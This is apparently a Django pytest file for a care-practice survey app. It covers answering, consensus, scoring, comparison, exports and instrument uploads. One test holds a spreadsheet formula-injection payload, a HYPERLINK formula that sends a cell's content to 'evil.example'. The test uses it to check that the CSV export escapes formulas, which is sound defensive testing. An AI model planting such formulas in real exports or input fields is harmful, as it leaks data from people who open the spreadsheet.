"""Alignment surveys through the pages: answer alone, save and come back, submit, compare, agree a
consensus, see scores with the radar and a comparison, export; and load a new instrument from a file."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from carepath.practices import instruments
from carepath.practices.models import Answer, Instrument, Survey
from carepath.practices.services import organizations, surveys
from tests.query_counts import assert_queries_do_not_grow, page

from .conftest import _member, an_organization

pytestmark = pytest.mark.django_db


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def form_answers(instrument, level_of, evidence: str = "") -> dict[str, str]:
    data = {}
    for i, code in enumerate(instrument.layout.questions):
        value = level_of(i)
        if value is not None:
            data[f"q-{code}"] = value
        data[f"e-{code}"] = evidence
    return data


@pytest.fixture
def survey(organization, lead, staff, ipchs):
    return surveys.start_survey(
        actor=lead,
        organization=organization,
        instrument=ipchs,
        title="Spring 2026",
        respondents=[lead, staff],
    )


def test_a_lead_starts_a_survey_for_members_only(organization, lead, staff, stranger, ipchs):
    client = login(lead)
    response = client.post(
        "/en/practices/surveys/new/",
        {
            "organization": organization.pk,
            "instrument": ipchs.pk,
            "title": "Autumn",
            "respondents": [lead.pk, stranger.pk],
        },
    )
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    response = client.post(
        "/en/practices/surveys/new/",
        {
            "organization": organization.pk,
            "instrument": ipchs.pk,
            "title": "Autumn",
            "respondents": [lead.pk, staff.pk],
        },
    )
    survey = Survey.objects.get(title="Autumn")
    assert response.url == f"/en/practices/surveys/{survey.pk}/"
    assert sorted(survey.responses.values_list("respondent__username", flat=True)) == ["lena", "sam"]


def test_a_survey_is_started_by_the_leads_of_an_organization_and_by_editors(
    organization, lead, staff, stranger, editor
):
    organizations.save_member(
        actor=None,
        organization_id=an_organization("harbour", "Harbour CHC", "CSC Harbour").pk,
        member_id=None,
        user_id=lead.pk,
        role="lead",
    )
    start = "Start an alignment survey</a>"
    assert [
        login(user).get("/en/practices/mine/").content.decode().count(start) for user in (lead, staff, editor)
    ] == [
        1,  # once, though a lead of two organizations
        0,
        1,
    ]
    assert [
        login(user).get("/en/practices/surveys/new/").status_code for user in (lead, stranger, staff, editor)
    ] == [
        200,
        200,
        403,
        200,
    ]
    choices = login(lead).get("/en/practices/surveys/new/").context["form"].fields["organization"].queryset
    assert sorted(choices.values_list("slug", flat=True)) == ["harbour", "lakeview"]


def test_a_respondent_saves_comes_back_and_submits_only_when_every_question_is_answered(survey, staff, ipchs):
    client = login(staff)
    url = f"/en/practices/surveys/{survey.pk}/answer/"
    half = form_answers(ipchs, lambda i: "3" if i < 20 else None, "Our intake policy")
    assert client.post(url, {**half, "save": "1"}).url == url
    page = client.get(url).content.decode()
    assert "20 of 39 questions answered." in page
    assert page.count('value="3" checked') == 20
    response = client.post(url, {**half, "submit": "1"})
    assert "Answer every question before submitting" in response.content.decode()
    assert "19 left" in response.content.decode()
    full = form_answers(ipchs, lambda i: "na" if i == 0 else str(i % 6))
    response = client.post(url, {**full, "submit": "1"})
    assert response.status_code == 302
    mine = survey.responses.get(respondent=staff)
    assert mine.submitted_at is not None
    assert Answer.objects.filter(response=mine, not_applicable=True).count() == 1
    assert Answer.objects.filter(response=mine, question="1.1.2").get().level == 1
    client.post(url, {**form_answers(ipchs, lambda i: "0"), "save": "1"})
    assert Answer.objects.filter(response=mine, question="1.1.2").get().level == 1  # locked after submitting


def test_bad_answers_are_refused_with_the_question(survey, staff, ipchs):
    response = login(staff).post(f"/en/practices/surveys/{survey.pk}/answer/", {"q-1.1.1": "9", "save": "1"})
    assert response.status_code == 200
    assert "Select a valid choice. 9 is not one of the available choices." in response.content.decode()
    assert not Answer.objects.exists()


def test_the_consensus_page_shows_agreement_and_closing_it_makes_scores_radar_and_exports(
    survey, lead, staff, ipchs
):
    for person, level_of in ((lead, lambda i: "4"), (staff, lambda i: "4" if i % 2 else "1")):
        login(person).post(
            f"/en/practices/surveys/{survey.pk}/answer/", {**form_answers(ipchs, level_of), "submit": "1"}
        )
    client = login(lead)
    page = client.get(f"/en/practices/surveys/{survey.pk}/consensus/").content.decode()
    assert "They agree on 19 questions, are one level apart on 0 and differ on 20." in page
    assert "Answers differ" in page and "Everyone agrees" in page
    consensus = form_answers(ipchs, lambda i: "na" if i == 0 else "3")
    response = client.post(f"/en/practices/surveys/{survey.pk}/consensus/", {**consensus, "finish": "1"})
    assert "Give the date of the consensus meeting." in response.content.decode()
    response = client.post(
        f"/en/practices/surveys/{survey.pk}/consensus/",
        {**consensus, "finish": "1", "meeting_on": "2026-11-20", "note": "All present."},
    )
    assert response.url == f"/en/practices/surveys/{survey.pk}/results/"
    results = client.get(response.url).content.decode()
    assert "Overall score: 3.0 out of 5." in results
    assert '<svg class="radar"' in results and results.count("<circle") == 19
    assert "<td>–</td>" not in results  # 1.1 still has a scored question
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(f"/en/practices/surveys/{survey.pk}/export.csv").content.decode("utf-8-sig")
            )
        )
    )
    assert rows[0][:6] == ["section", "section_score", "item", "item_score", "question", "level"]
    assert rows[1][:7] == ["1", "3.00", "1.1", "3.00", "1.1.1", "", "yes"]
    assert len(rows) == 40
    exported = json.loads(client.get(f"/en/practices/surveys/{survey.pk}/export.json").content)
    assert exported["overall"] == 3.0 and exported["instrument"] == {"code": "ipchs", "version": 1}
    assert exported["answers"]["1.1.1"] == {"level": None, "not_applicable": True, "evidence": ""}


def test_results_compare_with_another_survey_and_the_registry_average(survey, organization, lead, ipchs):
    other = surveys.start_survey(
        actor=lead, organization=organization, instrument=ipchs, title="2025", respondents=[lead]
    )
    for target, level in ((survey, 2), (other, 4)):
        given = dict.fromkeys(ipchs.layout.questions, (level, False, ""))
        surveys.save_answers(
            actor=lead, response=target.responses.get(respondent=lead), given=given, submit=True
        )
        surveys.record_consensus(
            actor=lead, survey=target, given=given, meeting_on=datetime.date(2026, 1, 1), note="", finish=True
        )
    client = login(lead)
    page = client.get(f"/fr/practices/surveys/{survey.pk}/results/?compare={other.pk}").content.decode()
    assert "CSC Lakeview: 2025" in page and page.count("<circle") == 38
    page = client.get(f"/en/practices/surveys/{survey.pk}/results/?compare=average").content.decode()
    assert "Registry average (1 survey)" in page
    assert page.count("<td>2.0</td><td>4.0</td>") == 5 + 19


def test_an_editor_loads_a_new_instrument_file_and_a_broken_one_is_refused_with_every_problem(editor):
    document = json.loads((instruments.SHIPPED / "ipchs-v1.json").read_text(encoding="utf-8"))
    client = login(editor)
    broken = {**document, "version": 2, "scale": {**document["scale"], "max": 9}}
    response = client.post(
        "/en/practices/instruments/", {"file": SimpleUploadedFile("new.json", json.dumps(broken).encode())}
    )
    assert "scale/levels: give each value from 0 to 9 exactly once" in response.content.decode()
    response = client.post(
        "/en/practices/instruments/", {"file": SimpleUploadedFile("same.json", json.dumps(document).encode())}
    )
    assert "already loaded; give the file a higher version number" in response.content.decode()
    small = {
        "code": "scirocco",
        "version": 1,
        "title": {"en": "Maturity", "fr": "Maturité"},
        "scale": {
            "min": 0,
            "max": 5,
            "levels": [
                {"value": v, "label": {"en": str(v), "fr": str(v)}, "meaning": {"en": "m", "fr": "m"}}
                for v in range(6)
            ],
        },
        "sections": [
            {
                "code": "all",
                "title": {"en": "All", "fr": "Tout"},
                "items": [
                    {
                        "code": "readiness",
                        "title": {"en": "Readiness to change", "fr": "Préparation au changement"},
                        "questions": [
                            {"code": "readiness.1", "text": {"en": "How ready?", "fr": "À quel point?"}}
                        ],
                    }
                ],
            }
        ],
    }
    response = client.post(
        "/en/practices/instruments/", {"file": SimpleUploadedFile("s.json", json.dumps(small).encode())}
    )
    assert response.status_code == 302
    assert Instrument.objects.get(code="scirocco").layout.questions == ("readiness.1",)
    assert login(editor).get("/api/v1/instruments/scirocco/1").json()["title"]["fr"] == "Maturité"


def test_spreadsheets_do_not_run_formulas_in_the_survey_export(survey, lead, staff, ipchs):
    formula = '=HYPERLINK("https://evil.example/?q="&B2,"Our evidence")'
    for person in (lead, staff):
        login(person).post(
            f"/en/practices/surveys/{survey.pk}/answer/",
            {**form_answers(ipchs, lambda i: "4", formula), "submit": "1"},
        )
    client = login(lead)
    client.post(
        f"/en/practices/surveys/{survey.pk}/consensus/",
        {**form_answers(ipchs, lambda i: "3", formula), "finish": "1", "meeting_on": "2026-11-20"},
    )
    export = client.get(f"/en/practices/surveys/{survey.pk}/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(export)))
    assert rows[0][7] == "evidence" and len(rows) == 40
    assert {row[7] for row in rows[1:]} == {"'" + formula}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The JSON export is data for programs: it keeps the text exactly.
    exported = json.loads(client.get(f"/en/practices/surveys/{survey.pk}/export.json").content)
    assert exported["answers"]["1.1.1"]["evidence"] == formula


# Every list of the survey pages takes as many queries for three items as for one.


def answered(survey, people, level: int = 3):
    """Each person submits an answer to every question."""
    given = dict.fromkeys(survey.instrument.layout.questions, (level, False, ""))
    for person in people:
        surveys.save_answers(
            actor=person, response=survey.responses.get(respondent=person), given=given, submit=True
        )
    return given


def completed(survey, person, level: int):
    """The survey answered by the person and closed with the same answers as the consensus."""
    given = answered(survey, [person], level)
    surveys.record_consensus(
        actor=person, survey=survey, given=given, meeting_on=datetime.date(2026, 1, 1), note="", finish=True
    )
    return survey


PEOPLE_LISTED = {  # how each page names the people who answered
    "": lambda html: len(re.findall(r"<li>\w+: submitted", html)),
    "consensus/": lambda html: len(set(re.findall(r"<li>(\w+): <strong>3", html))),
}


@pytest.mark.parametrize("view", list(PEOPLE_LISTED))
def test_a_survey_s_pages_take_the_same_queries_for_one_respondent_or_three(
    organization, lead, staff, ipchs, view
):
    people = [lead, staff, _member(organization, "rae", "member")]
    made = []

    def add(n: int) -> None:  # a survey answered by n people
        survey = surveys.start_survey(
            actor=lead,
            organization=organization,
            instrument=ipchs,
            title=f"Survey {n}",
            respondents=people[:n],
        )
        answered(survey, people[:n])
        made.append(survey)

    client = login(lead)
    assert_queries_do_not_grow(
        add=add,
        fetch=lambda: page(client, f"/en/practices/surveys/{made[-1].pk}/{view}")(),
        shown=PEOPLE_LISTED[view],
    )


def test_the_results_take_the_same_queries_for_one_survey_to_compare_with_or_three(organization, lead, ipchs):
    def a_survey(n: int):
        return surveys.start_survey(
            actor=lead, organization=organization, instrument=ipchs, title=f"Survey {n}", respondents=[lead]
        )

    survey = completed(a_survey(0), lead, 2)
    assert_queries_do_not_grow(
        add=lambda n: completed(a_survey(n), lead, 4),
        fetch=page(login(lead), f"/en/practices/surveys/{survey.pk}/results/?compare=average"),
        shown=lambda html: (
            len(re.findall(r'<option value="\d+"', html)),
            int(re.search(r"Registry average \((\d+) survey", html).group(1)),
        ),
    )
